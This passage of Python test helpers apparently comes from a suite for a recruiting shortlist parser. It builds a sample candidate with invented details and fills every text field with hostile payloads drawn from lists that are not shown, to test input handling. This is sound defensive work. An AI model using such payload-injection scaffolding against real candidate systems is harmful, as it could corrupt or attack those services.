EMAIL_FIELD: Final[Field] = ("emails", 0)
URL_FIELD: Final[Field] = ("linkedinUrl",)
ID_FIELD: Final[Field] = ("profileId",)
UNKNOWN_FIELD: Final[Field] = ("pronunciation",)
"""A field that the vendor may add one day: kept, never shown."""

STRING_FIELDS: Final[tuple[Field, ...]] = (
    *TEXT_FIELDS,
    EMAIL_FIELD,
    URL_FIELD,
    ID_FIELD,
    UNKNOWN_FIELD,
)
"""Every string of a candidate."""


def harmless_candidate(profile_id: str = "prof_c0de") -> dict[str, Any]:
    """Return a candidate on the wire with every field, all of it plain words."""
    return {
        "profileId": profile_id,
        "name": "Marta Quill",
        "linkedinUrl": "https://www.linkedin.com/in/example-marta",
        "matchScore": 71,
        "rationale": "Kept a booking platform running through three summers.",
        "skills": ["Elixir", "Ansible", "Redis"],
        "headline": "Platform person with a soft spot for queues",
        "location": "Porto, Portugal",
        "currentCompany": "Douro Trips",
        "currentRole": "Platform Engineer",
        "aiFitPoints": ["Owns deployments", "Writes runbooks", "Calm on call"],
        "aiRedFlags": ["Short stays", "No on-site weeks"],
        "aiDetailedRationale": [
            {
                "title": "Build Engineer",
                "company": "Ribeira Games",
                "duration": "2 years",
                "relevanceExplanation": "Moved forty services onto one pipeline.",
            }
        ],
        "detailedExperience": [
            {
                "role": "Operations Engineer",
                "company": "Foz Ferries",
                "duration": "2019 - 2022",
                "highlights": ["Ticket gates", "Night shifts"],
            }
        ],
        "emails": ["marta@example.test", "quill@example.test"],
        "pronunciation": "mar-ta",
    }


def text_at(candidate: Mapping[str, Any], field: Field) -> str:
    """Return the text that ``field`` leads to.

    Raises:
        LookupError: The candidate has no such place.
    """
    value: Any = candidate
    for key in field:
        value = value[key]
    return str(value)


def replace_texts(candidate: Mapping[str, Any], texts: Mapping[Field, str]) -> dict[str, Any]:
    """Return a copy of a wire candidate with some of its texts replaced.

    Raises:
        LookupError: The candidate has no such place.
    """
    changed: dict[str, Any] = deepcopy(dict(candidate))
    for field, text in texts.items():
        *way, last = field
        place: Any = changed
        for key in way:
            place = place[key]
        place[last]  # an unknown field is a mistake in a test, not a new one
        place[last] = text
    return changed


def folded(text: str) -> str:
    """Return text with each run of white space as one space."""
    return " ".join(text.split())


def hostile_wires() -> list[dict[str, Any]]:
    """Return candidates of whom every text is hostile; each payload is once in each field.

    After every tenth stands a plain neighbour, whose id begins with ``plain``.
    """
    urls = (*BAD_URLS, *REPAIRABLE_URLS, *(payload.text for payload in SHORT_PAYLOADS))
    emails = (*HOSTILE_EMAILS, *(payload.text for payload in SHORT_PAYLOADS))
    wires: list[dict[str, Any]] = []
    for number in range(max(len(urls), len(emails))):
        texts = {
            field: SHORT_PAYLOADS[(number + shift) % len(SHORT_PAYLOADS)].text
            for shift, field in enumerate(STRING_FIELDS)
        }
        texts[URL_FIELD] = urls[number % len(urls)]
        texts[EMAIL_FIELD] = emails[number % len(emails)]
        # Ids are told apart by their end, so that no two people become one.
        texts["profileId",] = f"{texts['profileId',]}#{number}"
        wires.append(replace_texts(harmless_candidate(), texts))
        if number % 10 == 0:
            wires.append(harmless_candidate(f"plain{number}"))
    return wires


def read_wires(wires: Sequence[dict[str, Any]]) -> Shortlist:
    """Return these people, all of them."""
    shortlist: Shortlist = parse_shortlist(json.dumps(wires))
    assert len(shortlist.candidates) == len(wires)
    return shortlist


def printable_payloads() -> list[Payload]:
    """Return the payloads that need no cleaning: most of them."""
    printable = [
        payload
        for payload in SHORT_PAYLOADS
        if payload.text.isprintable()
        and payload.text == folded(payload.text)
        and payload.group != "marks"  # towers are cut down
    ]
    assert len(printable) > 0.7 * len(SHORT_PAYLOADS)
    return printable
